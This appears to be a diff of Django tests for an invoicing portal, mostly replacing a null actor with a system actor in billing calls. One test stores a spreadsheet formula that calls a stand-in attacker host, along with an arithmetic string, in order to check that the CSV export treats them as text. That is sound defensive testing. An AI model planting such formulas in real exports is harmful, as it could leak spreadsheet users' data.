@@ -9,6 +9,7 @@ from django.test import Client as HttpClient
 from django.urls import reverse
 
 from tally.accounts.models import Role
+from tally.audit.actors import SystemActor
 from tally.disputes.models import Dispute, DisputeMessage
 from tally.disputes.services import open_dispute
 from tally.internal_notes.services import add_internal_note
@@ -81,12 +82,14 @@ def test_a_draft_voided_before_it_was_issued_is_nowhere_in_the_portal(setup):
 
     add_events(setup["acme"], "pick", 3, day=date(2026, 12, 3))
     draft = generate_draft_invoice(
-        actor=None,
+        actor=SystemActor.TESTS,
         client=setup["acme"],
         period_start=date(2026, 12, 1),
         period_end=date(2026, 12, 31),
     ).invoice
-    void_invoice(actor=None, client=setup["acme"], invoice_id=draft.pk, reason="wrong period")
+    void_invoice(
+        actor=SystemActor.TESTS, client=setup["acme"], invoice_id=draft.pk, reason="wrong period"
+    )
     browser = setup["browser"]
     for query in ("", "?status=void", "?sort=issue_date&direction=asc"):
         page = browser.get("/" + query)
@@ -287,12 +290,15 @@ def test_a_reference_that_a_spreadsheet_would_run_opens_as_text_in_the_csv(acme,
     rows = event_rows("pick", 3, day=date(2026, 10, 3))
     rows[0]["reference"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     rows[1]["reference"] = "-2+3"
-    ingest_events(actor=None, client=acme, rows=rows)
+    ingest_events(actor=SystemActor.TESTS, client=acme, rows=rows)
     draft = generate_draft_invoice(
-        actor=None, client=acme, period_start=date(2026, 10, 1), period_end=date(2026, 10, 31)
+        actor=SystemActor.TESTS,
+        client=acme,
+        period_start=date(2026, 10, 1),
+        period_end=date(2026, 10, 31),
     ).invoice
     invoice = issue_invoice(
-        actor=None, client=acme, invoice_id=draft.pk, issue_date=date(2026, 11, 1)
+        actor=SystemActor.TESTS, client=acme, invoice_id=draft.pk, issue_date=date(2026, 11, 1)
     )
     response = acme_browser.get(
         reverse("portal:line_events_csv", args=[number(invoice), invoice.lines.get().pk])
@@ -446,7 +452,7 @@ def test_an_unpaid_invoice_says_how_to_pay_in_its_currency_and_a_paid_one_does_n
     unpaid = issued_invoice(acme, picks=4)
     paid = issued_invoice(acme, picks=2, period=(date(2026, 9, 1), date(2026, 9, 30)))
     record_payment(
-        actor=None,
+        actor=SystemActor.TESTS,
         client=acme,
         amount_minor=paid.total_minor,
         currency="USD",
